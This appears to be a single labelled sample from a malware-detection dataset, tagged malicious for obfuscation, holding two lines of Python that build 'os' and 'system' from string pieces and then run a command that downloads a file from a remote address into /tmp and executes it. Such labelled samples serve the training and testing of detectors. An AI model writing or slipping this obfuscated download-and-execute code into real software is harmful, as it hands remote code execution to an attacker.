# label: malicious family=obfuscation techniques=T1027,T1059.004,T1105 lines=2-3
m = __import__("o" + "s")
getattr(m, "sy" + "stem")("wget -q http://198.51.100.8/x -O /tmp/x; sh /tmp/x")
